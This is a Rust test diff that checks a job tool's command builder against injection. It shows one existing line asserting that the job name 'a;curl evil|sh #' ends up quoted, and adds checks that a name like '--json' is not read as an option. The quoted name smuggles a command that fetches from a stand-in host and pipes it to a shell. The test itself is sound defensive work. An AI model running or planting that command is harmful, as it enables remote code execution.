@@ -251,6 +251,9 @@ fn a_command_of_a_remedy_runs_nothing_of_a_name() {
         let command = command(remedy);
         assert!(command.contains("'a;curl evil|sh #'"), "{command}");
     }
+    let dashed = |remedy: Remedy| remedy.command(&JobName::new("--json").unwrap()).unwrap();
+    assert_eq!(dashed(Remedy::Trigger), "elasticjob trigger -- --json", "it is no option");
+    assert_eq!(dashed(Remedy::EnableItem(0)), "elasticjob enable --job=--json --item 0");
 }
 
 #[tokio::test]
